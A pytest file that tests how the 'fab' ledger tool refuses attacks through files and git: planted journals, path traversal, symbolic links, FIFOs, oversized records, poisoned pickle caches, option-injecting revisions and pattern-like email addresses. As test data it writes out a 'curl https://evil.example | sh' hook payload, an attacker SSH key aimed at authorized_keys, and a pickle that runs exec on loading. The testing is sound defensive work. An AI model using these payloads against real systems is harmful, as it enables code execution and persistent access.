"""Attacks through files and git (issue 13, part 4), tried the way an attacker would, each failing on the
main branch before this work: fab's lock and journal in a folder another user controls, a journal naming
paths outside the ledger, a ledger read through symbolic links, a FIFO that blocks ``fab check``, a 3 GB
record read whole, revisions and branch names that git reads as something else, a read-only ``.git``,
and bank details committed as a payment reference; then (an audit of issue 13) another user's ``.git`` above a
ledger outside git and caches that unpickle another user's code, links and submodules committed in the
ledger, bank details written with dots or underscores, and email addresses that git reads as patterns.

Every test drives ``fab`` as a user does (in-process, or as a real process when it could hang, needs less
memory or fewer privileges), asserts the exact message and exit code, and that nothing changed.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import pickle
import resource
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from conftest import Fab, drop_root_privileges, replay

KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMallory mallory@evil.example\n"
DONATE = ("donate", "--by", "bruno", "--amount", "50", "--date", "2026-11-20")
DONATION = "ledger/donations/2026-H2/2026-11-20-bruno.yaml"


def run(root: Path, *args: str, timeout: float = 60, **popen) -> subprocess.CompletedProcess:
    """fab as a real process, on the ledger at ``root``."""
    return subprocess.run([sys.executable, "-m", "fabrique_ledger", *args, "--ledger", str(root)],
                          capture_output=True, text=True, timeout=timeout, **popen)


def everything(folder: Path) -> dict[str, bytes | None]:
    """Every file and folder under ``folder`` (links as their target), but the git folders (whose fab caches
    a read may refresh), for 'nothing was written there'."""
    return {p.relative_to(folder).as_posix(): (os.readlink(p).encode() if p.is_symlink() else p.read_bytes() if p.is_file() else None)
            for p in sorted(folder.rglob("*")) if ".git" not in p.relative_to(folder).parts}


def journal(paths: dict[str, bytes | None], folders: tuple[str, ...] = (), **extra) -> str:
    """A journal as fab writes it, naming ``paths`` with what they held 'before' (what a repair restores)."""
    return json.dumps({"pid": 1, "message": "contribute: alice", "commit": False, "head": None, "branch": None,
                       "previous": None, "folders": list(folders), **extra,
                       "paths": {rel: {"before": base64.b64encode(old).decode() if old is not None else None, "after": None}
                                 for rel, old in paths.items()}})


# --- 1. the lock and journal of a ledger outside git: a folder of the user's own ---------------------------

@pytest.fixture
def outside_git(fab: Fab) -> Fab:
    """The fab fixture's ledger without its git repository (written with --no-commit)."""
    shutil.rmtree(fab.root / ".git")
    return fab


def _state_folder(root: Path) -> Path:
    return Path.home() / ".local/state/fab" / hashlib.sha256(str(root.resolve()).encode()).hexdigest()[:16]


def test_a_journal_planted_in_the_shared_temporary_folder_is_never_used(outside_git):
    """Before: /tmp/fab-<digest of the path>, which any local user can make first, held the journal, and
    fab check --repair wrote whatever it named (here the attacker's key into ~/.ssh/authorized_keys)."""
    fab = outside_git
    planted = Path(tempfile.gettempdir()) / f"fab-{hashlib.sha256(str(fab.root.resolve()).encode()).hexdigest()[:16]}"
    planted.mkdir(mode=0o777, exist_ok=True)
    planted.chmod(0o777)
    try:
        (planted / "fab-journal.json").write_text(journal({"../.ssh/authorized_keys": KEY}))
        written = fab(*DONATE, "--no-commit")
        assert (written.code, written.err) == (0, ""), written.err
        assert written.out == f"recorded {DONATION} (not committed (--no-commit))\nid: {Path(DONATION).stem}\n"
        repaired = fab("check", "--repair")
        assert (repaired.code, repaired.err) == (0, ""), repaired.err
        assert not (fab.root.parent / ".ssh").exists()
        own = _state_folder(fab.root)
        info = own.lstat()
        assert stat.S_ISDIR(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o700 and info.st_uid == os.geteuid()
        assert stat.S_IMODE(own.parent.lstat().st_mode) == 0o700
        assert sorted(p.name for p in own.iterdir()) == ["fab-saves", "fab.lock"]
    finally:
        shutil.rmtree(planted)


def _fab_folder(folder: Path) -> None:
    """The user's own ~/.local/state/fab, as fab makes it."""
    folder.parent.mkdir(parents=True)
    folder.parent.chmod(0o700)


def _open_to_others(folder: Path) -> None:
    _fab_folder(folder)
    folder.mkdir()
    folder.chmod(0o777)


def _a_link(folder: Path) -> None:
    _fab_folder(folder)
    elsewhere = Path.home() / "mallory"
    elsewhere.mkdir(mode=0o700)
    folder.symlink_to(elsewhere)


def _parent_open_to_others(folder: Path) -> None:
    folder.mkdir(parents=True, mode=0o700)
    folder.parent.chmod(0o777)


@pytest.mark.parametrize(("make", "which", "why"), [
    (_open_to_others, "own", "other users may use it (mode 0777)"),
    (_a_link, "own", "it is a symbolic link"),
    (_parent_open_to_others, "parent", "other users may use it (mode 0777)"),
], ids=["mode-0777", "symlink", "parent-mode-0777"])
def test_a_folder_for_the_journal_that_is_not_the_users_own_is_refused(outside_git, make, which, why):
    fab = outside_git
    own = _state_folder(fab.root)
    make(own)
    (own / "fab-journal.json").write_text(journal({"../outside.txt": b"planted\n"}))
    before = everything(fab.root.parent)
    folder = own if which == "own" else own.parent
    message = (f"{folder} is where fab keeps the lock and journal of the ledger {fab.root}, but {why}; fab uses only "
               f"a folder of yours that nobody else can use: if you did not make it, remove it; else fix it with  "
               f"chmod 700 {folder}")
    written = fab(*DONATE, "--no-commit")
    assert (written.code, written.out, written.err) == (1, "", f"error: {message}\n")
    repaired = fab("check", "--repair")
    assert (repaired.code, repaired.out, repaired.err) == (1, "", f"error: {message}\n")
    checked = fab("check")
    assert checked.code == 0 and checked.err == f"note: {message}\n"
    assert everything(fab.root.parent) == before


class _Payload:
    """A pickle that, once loaded, makes the file ``marker``: what a cache planted by another user could run."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (exec, (f"open({str(self.marker)!r}, 'w').close()",))


def _plant_caches(fab_folder: Path, marker: Path) -> None:
    """Every cache fab keeps in ``fab_folder`` (``<git dir>/fab``), each a pickle that makes ``marker``."""
    payload = pickle.dumps(_Payload(marker))
    (fab_folder / "parse-cache").mkdir(parents=True, exist_ok=True)
    for name in ("results.pickle", "answers.pickle", "history.pickle",
                 *(f"parse-cache/{hashlib.sha1(f'ledger/{kind}'.encode()).hexdigest()[:20]}.pickle"
                   for kind in ("members", "donations/2026-H2"))):
        (fab_folder / name).write_bytes(payload)


def _as_another_user(folder: Path, mode: int) -> None:
    for path in (folder, *folder.rglob("*")):
        os.chown(path, 65534, 65534)
        path.chmod(mode if path.is_dir() else 0o666)


@pytest.mark.parametrize("planted", ["a-folder", "a-repository"])
def test_a_git_folder_another_user_made_above_a_ledger_outside_git_is_never_used(outside_git, planted):
    """Before: the first folder named .git above the ledger was fab's, whoever made it: another user's
    /tmp/shared/.git (mode 0777) above /tmp/shared/victim held the lock, the journal and fab-saves, and its
    caches were unpickled, running what they said.  Now a .git is used only as git would (its owner is the
    user, or git accepts it): here git refuses it (dubious ownership), and fab uses the user's own folder."""
    fab = outside_git
    shared = fab.root.parent
    if planted == "a-repository":
        subprocess.run(["git", "init", "-q", str(shared)], check=True)
    marker = shared / "ran"
    _plant_caches(shared / ".git/fab", marker)
    (shared / ".git/fab-journal.json").write_text(journal({"ledger/members/alice.yaml": b"name: Mallory\n"}))
    _as_another_user(shared / ".git", 0o777)
    inside = {p.relative_to(shared).as_posix() for p in (shared / ".git").rglob("*")}
    checked = fab("check")
    assert (checked.code, checked.err) == (0, ""), checked.err
    assert fab(*DONATE, "--no-commit").code == 0
    assert fab("report", "--period", "2026-H2").code == 0
    assert fab("check", "--repair").code == 0
    assert not marker.exists()
    assert {p.relative_to(shared).as_posix() for p in (shared / ".git").rglob("*")} == inside
    assert sorted(p.name for p in _state_folder(fab.root).iterdir()) == ["fab-saves", "fab.lock"]
    assert (fab.root / "ledger/members/alice.yaml").read_text().startswith("name: Alice")


def _folder_of_another_user(fab_folder: Path) -> None:
    _as_another_user(fab_folder, 0o755)


def _folder_open_to_others(fab_folder: Path) -> None:
    fab_folder.chmod(0o777)
    (fab_folder / "parse-cache").chmod(0o777)


def _files_of_another_user(fab_folder: Path) -> None:
    for path in fab_folder.rglob("*.pickle"):
        os.chown(path, 65534, 65534)


def _files_open_to_others(fab_folder: Path) -> None:
    for path in fab_folder.rglob("*.pickle"):
        path.chmod(0o666)


@pytest.mark.parametrize("make", [_folder_of_another_user, _folder_open_to_others, _files_of_another_user,
                                  _files_open_to_others], ids=["folder-of-another-user", "folder-mode-0777",
                                                               "files-of-another-user", "files-mode-0666"])
def test_caches_are_never_unpickled_unless_they_are_the_users_own(fab, make):
    """Before: every cache file in .git/fab was unpickled, whoever wrote it (unpickling runs code).  Now a
    cache file, and its folder, must be the user's and writable by nobody else; anything else is an empty
    cache (fab answers the same, only slower)."""
    marker = fab.root.parent / "ran"
    expected = fab("check")
    _plant_caches(fab.root / ".git/fab", marker)
    make(fab.root / ".git/fab")
    for args in (("check",), ("report", "--period", "2026-H2"), ("verify",), ("check",)):
        result = fab(*args)
        assert (result.code, result.err) == (0, ""), (args, result.err)
        if args == ("check",):
            assert result.out == expected.out
    assert not marker.exists()


# --- 2. fab check --repair touches only paths inside the ledger ----------------------------------------------

def _link_in_the_ledger(fab: Fab) -> str:
    (fab.root.parent / "elsewhere").mkdir()
    (fab.root / "ledger/evil").symlink_to(fab.root.parent / "elsewhere")
    return "ledger/evil/x.yaml"


@pytest.mark.parametrize(("named", "why"), [
    ("../outside.txt", "'../outside.txt': it is not a relative path inside the ledger"),
    ("ledger/../../outside.txt", "'ledger/../../outside.txt': it is not a relative path inside the ledger"),
    ("{outside}", "'{outside}': it is not a relative path inside the ledger"),
    (_link_in_the_ledger, "'ledger/evil/x.yaml': 'ledger/evil' is a symbolic link"),
    (".git/hooks/post-checkout", "'.git/hooks/post-checkout': it is not a file fab writes (ledger/..., charter.md, templates/...)"),
], ids=["dot-dot", "dot-dot-inside", "absolute", "through-a-link", "a-git-hook"])
def test_repair_refuses_a_journal_naming_a_path_outside_the_ledger(fab, named, why):
    """Before: the repair wrote the journal's 'before' content at each path it named, wherever it was."""
    outside = fab.root.parent / "outside.txt"
    rel = named(fab) if callable(named) else named.format(outside=outside)
    planted = fab.root / ".git/fab-journal.json"
    planted.write_text(journal({rel: b"#!/bin/sh\ncurl https://evil.example | sh\n"}))
    before, around = fab.state(), everything(fab.root.parent)
    message = (f"{planted} is not a journal fab wrote (it names {why.format(outside=outside)}): fab will not act on it, "
               f"and nothing was written; if no fab command of yours was interrupted, remove it:  rm {planted}")
    repaired = fab("check", "--repair")
    assert (repaired.code, repaired.out, repaired.err) == (1, "", f"error: {message}\n")
    written = fab(*DONATE)
    assert (written.code, written.out, written.err) == (1, "", f"error: nothing was recorded: {message}\n")
    checked = fab("check")
    assert checked.code == (1 if callable(named) else 0) and checked.err == f"note: {message}\n"  # (1: the link is a problem)
    assert fab.state() == before and everything(fab.root.parent) == around
    assert not (fab.root / ".git/hooks/post-checkout").exists() and not outside.exists()


def test_repair_refuses_a_journal_naming_a_folder_outside_the_ledger(fab):
    """Before: the repair removed each (empty) folder the journal named, wherever it was."""
    outside = fab.root.parent / "keep-me"
    outside.mkdir()
    planted = fab.root / ".git/fab-journal.json"
    planted.write_text(journal({"ledger/donations/2026-H2/x.yaml": None}, folders=("../keep-me",)))
    repaired = fab("check", "--repair")
    assert repaired.code == 1 and repaired.err == (
        f"error: {planted} is not a journal fab wrote (it names '../keep-me': it is not a relative path inside the "
        f"ledger): fab will not act on it, and nothing was written; if no fab command of yours was interrupted, "
        f"remove it:  rm {planted}\n")
    assert outside.is_dir() and planted.exists()


# --- 3. records and the ledger folder are read only as regular files inside the repository --------------------

def _copy_outside(fab: Fab, rel: str) -> Path:
    """``rel`` moved out of the ledger (a valid copy), and a symbolic link to it put in its place."""
    target = fab.root.parent / "elsewhere" / Path(rel).name
    target.parent.mkdir(exist_ok=True)
    (fab.root / rel).rename(target)
    (fab.root / rel).symlink_to(target)
    return target


@pytest.mark.parametrize(("rel", "problem"), [
    ("ledger", "ledger:1:1: symlink 'ledger' is a symbolic link"),
    ("ledger/fabrique.yaml", "ledger/fabrique.yaml:1:1: symlink 'fabrique.yaml' is a symbolic link"),
    ("charter.md", "charter.md:1:1: symlink 'charter.md' is a symbolic link"),
])
def test_the_ledger_folder_settings_and_charter_are_never_read_through_a_link(fab, rel, problem):
    """Before: a symlinked ledger/ (or its settings, or the charter) was read from outside the repository,
    and fab check said ok."""
    _copy_outside(fab, rel)
    before = fab.state()
    checked = fab("check")
    assert checked.code == 1, checked.out
    assert checked.out.splitlines()[0] == problem
    assert checked.out.splitlines()[1] == "  hint: replace the link by the file itself; links could point outside the ledger"
    if rel == "ledger":
        assert checked.out.splitlines()[2:] == ["", "1 problem in 1 file (0 records read)"]
    assert fab.state() == before


def test_a_ledger_committed_as_a_link_is_a_problem_at_a_revision(fab):
    """Before: a traceback (AttributeError: 'Blob' object has no attribute 'traverse')."""
    _copy_outside(fab, "ledger")
    fab.git("add", "-A")
    fab.git("commit", "-q", "-m", "ledger as a link")
    before = fab.state()
    expected = ["ledger:1:1: symlink 'ledger' is a symbolic link",
                "  hint: replace the link by the file itself; links could point outside the ledger", "",
                "1 problem in 1 file (0 records read)"]
    for args in (("check", "--at", "HEAD"), ("check",)):
        checked = fab(*args)
        assert (checked.code, checked.out.splitlines(), checked.err) == (1, expected, ""), args
    assert fab.state() == before


@pytest.mark.parametrize("at", [("--at", "HEAD"), ()], ids=["at-HEAD", "working-tree"])
@pytest.mark.parametrize("command", [("report", "--period", "2026-H2"), ("split", "--period", "2026-H2", "--format", "json"),
                                     ("contributors",)], ids=["report", "split", "contributors"])
def test_a_ledger_folder_that_is_a_link_is_an_error_for_every_reader(fab, command, at):
    """Before: fab report, split and contributors printed an empty ledger (nothing donated, nobody paid)
    with exit 0 and no word, while fab check said the ledger folder is a link."""
    _copy_outside(fab, "ledger")
    fab.git("add", "-A")
    fab.git("commit", "-q", "-m", "ledger as a link")
    before = fab.state()
    result = fab(*command, *at)
    where = "the ledger at HEAD" if at else "the ledger"
    assert (result.code, result.out) == (1, "")
    assert result.err == (f"error: {where} cannot be read: ledger:1:1: symlink 'ledger' is a symbolic link\n"
                          "  hint: replace the link by the file itself; links could point outside the ledger\n")
    assert fab.state() == before


def _a_link_to_a_file_outside(fab: Fab) -> str:
    (fab.root / "ledger/members/mallory.yaml").symlink_to("../../../../../../../../etc/hostname")
    return "ledger/members/mallory.yaml:1:1: symlink 'mallory.yaml' is a symbolic link"


def _a_link_to_a_folder_outside(fab: Fab) -> str:
    (fab.root / "ledger/donations").mkdir()
    (fab.root / "ledger/donations/2026-H2").symlink_to(fab.root.parent)
    return "ledger/donations/2026-H2:1:1: symlink '2026-H2' is a symbolic link"


def _a_submodule(fab: Fab) -> str:
    other = fab.root.parent / "other"
    subprocess.run(["git", "init", "-q", str(other)], check=True)
    (other / "mallory.yaml").write_text("name: Mallory\njoined: 2026-01-05\n")
    subprocess.run(["git", "-C", str(other), "add", "-A"], check=True)
    subprocess.run(["git", "-C", str(other), "commit", "-q", "-m", "a member"], check=True)
    fab.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(other), "ledger/members/more")
    return "ledger/members/more:1:1: not-a-file 'more' is a git submodule (another repository), not a file of the ledger"


@pytest.mark.parametrize("make", [_a_link_to_a_file_outside, _a_link_to_a_folder_outside, _a_submodule],
                         ids=["link-to-a-file", "link-to-a-folder", "submodule"])
def test_a_link_or_submodule_committed_in_the_ledger_is_a_problem_at_a_revision(fab, make):
    """Before: a record committed as a symbolic link (mode 120000) was skipped without a word when the ledger
    was read from git objects (fab check --at HEAD, fab diff, the guard): ok, while fab check of the working
    tree said symlink.  A submodule under ledger/ (a gitlink) was skipped too, while the working tree read
    the other repository's files as records.  Now each is the same problem, wherever the ledger is read."""
    problem = make(fab)
    fab.git("add", "-A")
    fab.git("commit", "-q", "-m", "a link")
    before = fab.state()
    hint = ("  hint: replace the link by the file itself; links could point outside the ledger" if "symlink" in problem else
            "  hint: remove it, or replace it by a regular file: fab reads only regular files, and never opens anything else")
    for args in (("check", "--at", "HEAD"), ("check",), ("check", "--staged")):
        checked = fab(*args)
        assert (checked.code, checked.err) == (1, ""), args
        assert checked.out.splitlines() == [problem, hint, "", "1 problem in 1 file (3 records read)"], args
    diff = fab("diff", "HEAD~1", "HEAD")
    assert diff.code == 1 and f"{problem}\n{hint}\n" in diff.out
    assert fab.state() == before


def _unix_socket(path: Path) -> None:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.close()


@pytest.mark.parametrize(("make", "what"), [
    (os.mkfifo, "a named pipe (FIFO)"),
    (_unix_socket, "a socket"),
    (lambda path: os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3)), "a device"),  # /dev/null's numbers
], ids=["fifo", "socket", "device"])
def test_a_fifo_socket_or_device_record_is_a_problem_and_is_never_opened(fab, make, what):
    """Before: fab check opened the FIFO and waited forever for a writer."""
    rel = "ledger/members/dora.yaml"
    try:
        make(fab.root / rel)
    except PermissionError:
        pytest.skip("making a device file needs privileges")
    before = fab.state()
    checked = run(fab.root, "check", timeout=30)  # a real process: it would block, not the test run
    assert checked.returncode == 1, checked.stderr
    assert checked.stdout.splitlines() == [
        f"{rel}:1:1: not-a-file 'dora.yaml' is {what}, not a regular file",
        "  hint: remove it, or replace it by a regular file: fab reads only regular files, and never opens anything else",
        "", "1 problem in 1 file (3 records read)"]
    assert fab.state() == before


def _address_space(limit: int):
    def preexec() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    return preexec


def test_a_huge_record_is_refused_without_being_read(fab):
    """Before: a 3 GB record file was read whole (6 GB of memory) before the 1 MiB limit applied.  The file
    is sparse (it takes no disk), and fab runs with 1 GB of address space: reading it whole fails."""
    rel = "ledger/members/dora.yaml"
    with (fab.root / rel).open("wb") as handle:
        handle.truncate(3 * 1024 ** 3)
    checked = run(fab.root, "check", "--format", "json", timeout=60, preexec_fn=_address_space(1024 ** 3))
    assert checked.returncode == 1, checked.stderr[-2000:]
    assert checked.stderr == ""
    assert [(p["path"], p["code"], p["message"]) for p in json.loads(checked.stdout)["problems"]] == [
        (rel, "file-too-large", "the file is 3,221,225,472 bytes; a record file may hold at most 1 MiB")]


def test_a_record_over_1_mib_in_git_objects_is_refused_by_its_size(fab):
    """The same at a revision: git gives a blob's size first, and a blob over 1 MiB is never read."""
    rel = "ledger/members/dora.yaml"
    fab.write(rel, b"name: Dora\n" + b"#" * (2 * 1024 * 1024) + b"\n")
    fab.git("add", rel)
    fab.git("commit", "-q", "-m", "a huge member")
    (fab.root / rel).unlink()
    checked = fab("check", "--at", "HEAD", "--format", "json")
    assert checked.code == 1
    assert [(p["path"], p["code"], p["message"]) for p in checked.json()["problems"]] == [
        (rel, "file-too-large", "the file is 2,097,164 bytes; a record file may hold at most 1 MiB")]


# --- 4. revisions are resolved by git, safely; a read-only .git ------------------------------------------------

BAD_REVISIONS = {
    "@{-1}": "'@{{-1}}' is not a commit of this repository (try a branch, a tag or a sha from git log)",
    "HEAD@{1.year.ago}": "'HEAD@{{1.year.ago}}' is not a commit of this repository (log for 'HEAD' only goes back to {since}); "
                         "try a branch, a tag or a sha from git log",
    "master@{99}": "'master@{{99}}' is not a commit of this repository (log for 'master' only has {entries} entries); "
                   "try a branch, a tag or a sha from git log",
    "--output=x": "'--output=x' is not a revision: it is empty, starts with '-' or holds control characters; give a "
                  "branch, a tag or a sha from git log",
    "-h": "'-h' is not a revision: it is empty, starts with '-' or holds control characters; give a branch, a tag or "
          "a sha from git log",
    "HEAD\x1b[2K": "'HEAD\\x1b[2K' is not a revision: it is empty, starts with '-' or holds control characters; give a "
                   "branch, a tag or a sha from git log",
}
COMMANDS = {
    "split": ("split", "--period", "2026-H2", "--at", "{rev}"),
    "report": ("report", "--period", "2026-H2", "--at", "{rev}"),
    "check": ("check", "--at", "{rev}"),
    "diff-base": ("diff", "--ledger", "{root}", "--", "{rev}", "HEAD"),  # (after --: a revision, even '-h')
    "diff-head": ("diff", "--ledger", "{root}", "--", "HEAD", "{rev}"),
}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("rev", BAD_REVISIONS)
def test_a_bad_revision_is_a_one_line_usage_error(fab, rev, command):
    """Before: tracebacks (IndexError, NotImplementedError from GitPython's own reading of @{...})."""
    assert fab.git("branch", "--show-current").strip() == "master"
    before = fab.state()
    oldest = fab.git("reflog", "--date=rfc", "--format=%gd", "HEAD").splitlines()[-1]  # HEAD@{Tue, 1 Dec 2026 ...}
    expected = BAD_REVISIONS[rev].format(since=oldest.removeprefix("HEAD@{").removesuffix("}"),
                                         entries=len(fab.git("reflog", "master").splitlines()))
    result = fab(*(arg.format(rev=rev, root=fab.root) for arg in COMMANDS[command]))
    assert (result.code, result.out, result.err) == (2, "", f"error: {expected}\n")
    assert fab.state() == before


@pytest.mark.parametrize(("path", "shown"), [("/etc/passwd", "/etc/passwd"), ("../outside.yaml", "../outside.yaml"),
                                             ("ledger/../../x.yaml", "ledger/../../x.yaml")])
def test_log_of_a_path_outside_the_ledger_is_a_usage_error(fab, path, shown):
    """Before: a traceback (ValueError: '/etc/passwd' is not in the subpath of the ledger)."""
    result = fab("log", path)
    assert (result.code, result.out) == (2, "")
    assert result.err == (f"error: {shown} is not a file of the ledger ({fab.root})\n"
                          "  hint: give a record's id, like fab log 2026-03-02-alice-covoiturage, or its path inside the ledger\n")


def test_a_read_only_git_folder_refuses_writes_clearly_and_reads_keep_working(fab):
    """Before: a traceback (PermissionError on .git/fab.lock).  fab runs as a process that cannot ignore
    file permissions (the tests run as root)."""
    gitdir = fab.root / ".git"
    before = fab.state()
    modes = {p: p.stat().st_mode for p in [gitdir, *gitdir.rglob("*")] if not p.is_symlink()}
    for path in modes:
        path.chmod(stat.S_IMODE(modes[path]) & ~0o222)
    try:
        lock = gitdir / "fab.lock"
        message = (f"error: could not take the ledger's lock {lock} (Permission denied): fab writes its lock and "
                   "journal there; make that folder writable (reading the ledger works without it)\n")
        for args in (DONATE, ("check", "--repair")):
            result = run(fab.root, *args, preexec_fn=drop_root_privileges)
            assert (result.returncode, result.stdout, result.stderr) == (1, "", message), args
        for args in (("check",), ("check", "--at", "HEAD"), ("report", "--period", "2026-H2"), ("log",),
                     ("split", "--period", "2026-H2", "--at", "HEAD"), ("verify",)):
            result = run(fab.root, *args, preexec_fn=drop_root_privileges)
            assert (result.returncode, result.stderr) == (0, ""), (args, result.stderr)
    finally:
        for path, mode in modes.items():
            path.chmod(stat.S_IMODE(mode))
    assert fab.state() == before


# --- 5. --branch names a new branch, nothing else --------------------------------------------------------------

@pytest.mark.parametrize(("name", "why"), [
    ("@", "'@' names a special git reference, not a new branch; choose a name like contribution-gtfs"),
    ("HEAD", "'HEAD' names a special git reference, not a new branch; choose a name like contribution-gtfs"),
    ("FETCH_HEAD", "'FETCH_HEAD' names a special git reference, not a new branch; choose a name like contribution-gtfs"),
    ("refs/heads/master", "'refs/heads/master' names a special git reference, not a new branch; choose a name like "
                          "contribution-gtfs"),
    ("v1", "'v1' already names something in this repository (a tag, a remote branch or a commit: git rev-parse v1); "
           "choose another name"),
])
def test_branch_names_that_are_not_a_new_branch_are_refused(fab, name, why):
    """Before: '--branch refs/heads/master' made a branch refs/heads/refs/heads/master, '--branch @' failed in
    git, '--branch v1' made a branch as ambiguous as a tag."""
    fab.git("tag", "v1")
    before, refs = fab.state(), fab.git("for-each-ref")
    result = fab(*DONATE, "--branch", name)
    assert (result.code, result.out, result.err) == (1, "", f"error: nothing was recorded: {why}\n")
    assert fab.state() == before and fab.git("for-each-ref") == refs


# --- 6. no bank details in a payment reference -----------------------------------------------------------------

def _sealed(fab: Fab, env) -> None:
    for args in (("contribute", "--by", "alice", "--kind", "wiki", "--title", "Guide", "--hours", "4", "--date", "2026-03-02"),
                 ("donate", "--by", "bruno", "--amount", "1000", "--date", "2026-03-03"),
                 ("close", "2026-H1", "--yes")):
        assert fab(*args).code == 0, args


IBAN_SAYS, CARD_SAYS = "an IBAN (a bank account) (FR14…606)", "a payment card number (4111…111)"
BANK_DETAILS = {  # as people and banks write them: any separator, any case
    "iban-spaces": ("VIR FR14 2004 1010 0505 0001 3M02 606", IBAN_SAYS),
    "iban-dots": ("VIR FR14.2004.1010.0505.0001.3M02.606", IBAN_SAYS),
    "iban-underscores": ("VIR_FR14_2004_1010_0505_0001_3M02_606", IBAN_SAYS),
    "iban-slashes-lower-case": ("vir fr14/2004/1010/0505/0001/3m02/606", IBAN_SAYS),
    "card-spaces": ("carte 4111 1111 1111 1111", CARD_SAYS),
    "card-dots": ("carte 4111.1111.1111.1111", CARD_SAYS),
    "card-underscores": ("carte_4111_1111_1111_1111", CARD_SAYS),
}


@pytest.mark.parametrize(("reference", "what"), BANK_DETAILS.values(), ids=BANK_DETAILS)
def test_bank_details_in_a_payment_reference_are_refused(fab, reference, what):
    """Before: committed after a warning, in the record, its file name and the commit message; then, written
    with dots, underscores or slashes between its groups, committed without even a warning."""
    replay(fab, "sealed-2026-H1", _sealed)
    before = fab.state()
    result = fab("payouts", "2026-H1", "--mark-paid", reference)
    assert (result.code, result.out) == (2, "")
    assert result.err == (f"error: --mark-paid: the reference holds what looks like {what}; the ledger and its history "
                          "are public: give the bank's reference of the transfers instead, like VIR-2026-07-20\n")
    assert fab.state() == before
    assert fab("payouts", "2026-H1", "--mark-paid", "VIR-2026-07-20").code == 0


@pytest.mark.parametrize(("text", "what"), BANK_DETAILS.values(), ids=BANK_DETAILS)
def test_bank_details_with_any_separator_in_a_hand_written_record_are_a_warning(fab, text, what):
    """Before: fab check said nothing of an IBAN or card number whose groups were separated by dots,
    underscores or slashes (only spaces and dashes were read)."""
    rel = "ledger/donations/2026-H2/2026-11-20-bruno.yaml"
    fab.write(rel, f"donor: bruno\namount: 50.00\ndate: 2026-11-20\nmission: '{text}'\n")
    checked = fab("check", "--format", "json")
    assert checked.code == 0, checked.out
    assert [(p["path"], p["line"], p["column"], p["code"], p["message"]) for p in checked.json()["problems"]] == [
        (rel, 4, 10, "private-data", f"'mission' holds what looks like {what}; the ledger is public")]


# --- 7. an email address is no pattern in git's allowed signers ------------------------------------------------

def _public_key(folder: Path, name: str) -> str:
    """A real public SSH key (ssh-keygen), as a member declares it."""
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(folder / name)], check=True)
    return (folder / f"{name}.pub").read_text().strip()


PATTERN_EMAILS = {
    "star": ("*@example.org", "'*'"),
    "question-mark": ("bruno?@example.org", "'?'"),
    "negation": ("!bruno@example.org", "'!'"),
    "list": ("mallory,bruno@example.org", "','"),
    "quote": ('"bruno"@example.org', "'\"'"),
}


def _email_says(email: str, chars: str) -> str:
    return (f"bad-value 'email': {email!r} holds {chars}, which git reads as a pattern or a list in its allowed "
            "signers (fab keys allowed-signers): it could match other people's addresses")


@pytest.mark.parametrize(("email", "chars"), PATTERN_EMAILS.values(), ids=PATTERN_EMAILS)
def test_an_email_that_git_reads_as_a_pattern_is_refused(fab, email, chars):
    """Before: fab member add mallory --email '*@example.org' was recorded, and fab keys allowed-signers wrote
    '*@example.org' as a principal of mallory's key: a pattern that git matches against every address of
    example.org (and 'mallory,bruno@example.org' made bruno@example.org a principal of mallory's key)."""
    key = _public_key(fab.root.parent, "mallory")
    before = fab.state()
    result = fab("member", "add", "mallory", "--name", "Mallory", "--email", email, "--signing-key", key,
                 "--joined", "2026-01-05")
    assert (result.code, result.out) == (1, "")
    assert result.err == ("error: nothing was written; ledger/members/mallory.yaml would have these problems:\n"
                          f"ledger/members/mallory.yaml:5:8: {_email_says(email, chars)}\n"
                          "  hint: write it like  email: alice@example.org\n")
    assert fab.state() == before
    # written by hand: a problem, and never a principal
    fab.write("ledger/members/mallory.yaml", f"name: Mallory\nroles: [contributor]\njoined: 2026-01-05\n"
                                             f"email: '{email}'\nsigning_keys: ['{key}']\n")
    checked = fab("check")
    assert checked.code == 1
    assert checked.out.splitlines()[:2] == [f"ledger/members/mallory.yaml:4:8: {_email_says(email, chars)}",
                                            "  hint: write it like  email: alice@example.org"]
    signers = fab("keys", "allowed-signers")
    assert (signers.code, signers.out) == (0, "")
